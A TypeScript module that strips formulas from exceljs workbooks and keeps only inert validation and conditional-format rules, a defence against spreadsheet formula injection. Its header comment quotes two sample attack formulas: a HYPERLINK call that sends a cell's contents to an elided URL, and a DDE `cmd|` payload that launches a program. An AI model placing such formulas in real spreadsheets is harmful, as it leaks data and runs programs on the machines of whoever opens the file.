/**
 * A workbook we write holds no formula of the input's. A formula in a copy
 * would run again when the copy is opened: `HYPERLINK("http://…?"&B2)` sends a
 * contact's details away, `cmd|'/Ccalc'!A0` starts a program. So every formula
 * cell, in every sheet, becomes the value it last showed (its cached result),
 * and conditional formats and data validations keep only the formulas that are
 * a constant or a plain reference (a list of titles, `$H$2:$H$7`).
 *
 * Text that merely starts with `=` is no formula in a workbook: exceljs writes
 * it as a string cell, so the cells we set ourselves need nothing.
 */
import type { CellValue, Workbook, Worksheet } from 'exceljs';
import { loadExcelJS } from '../read/exceljs.js';

export function removeFormulas(workbook: Workbook): void {
  const { Formula } = loadExcelJS().ValueType;
  workbook.eachSheet((sheet) => {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === Formula) cell.value = cachedValue(cell.result);
      }),
    );
    keepInertValidations(sheet);
    keepInertConditionalFormats(sheet);
  });
}

/** The formula's last result as a plain value; nothing if it was never calculated. */
function cachedValue(result: unknown): CellValue {
  if (result === undefined || result === null) return null;
  return result as CellValue;
}

/**
 * A constant (`"CEO,Other"`, `5`, `TRUE`), a defined name (`TitleList`: exceljs
 * keeps names only as ranges) or a reference inside the workbook (`$A$2:$A$9`,
 * `Lists!$A:$A`, `'Job titles'!A1`): these compute nothing and reach nothing
 * outside the file. A sheet name in brackets or with a path (`'[1]x'!A1`,
 * `'\\host\share\[x.xlsx]y'!A1`) is another file and is no such reference.
 */
const INERT_FORMULA = new RegExp(
  [
    /^(?:"(?:[^"]|"")*"|[+-]?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?|[A-Za-z_][\w.]*)$/.source,
    /^(?:(?:'(?:[^'[\]\\/:*?]|'')+'|[A-Za-z_][\w.]*)!)?(?:\$?[A-Z]{1,3}\$?\d+(?::\$?[A-Z]{1,3}\$?\d+)?|\$?[A-Z]{1,3}:\$?[A-Z]{1,3}|\$?\d+:\$?\d+)$/.source,
  ].join('|'),
  'i',
);

function inert(formulae: unknown[] | undefined): boolean {
  return (formulae ?? []).every((formula) => typeof formula !== 'string' || INERT_FORMULA.test(formula.replace(/^=/, '').trim()));
}

/** What exceljs keeps of a sheet's validations (by cell address) and conditional formats; its types leave them out. */
interface SheetRules {
  dataValidations?: { model: Record<string, { formulae?: unknown[] } | undefined> };
  conditionalFormattings?: { rules: { formulae?: unknown[] }[] }[];
}

function keepInertValidations(sheet: Worksheet): void {
  const model = (sheet as unknown as SheetRules).dataValidations?.model ?? {};
  for (const [address, validation] of Object.entries(model)) {
    if (validation && !inert(validation.formulae)) delete model[address];
  }
}

function keepInertConditionalFormats(sheet: Worksheet): void {
  const rules = sheet as unknown as SheetRules;
  if (!rules.conditionalFormattings) return;
  for (const format of rules.conditionalFormattings) format.rules = format.rules.filter((rule) => inert(rule.formulae));
  rules.conditionalFormattings = rules.conditionalFormattings.filter((format) => format.rules.length > 0);
}
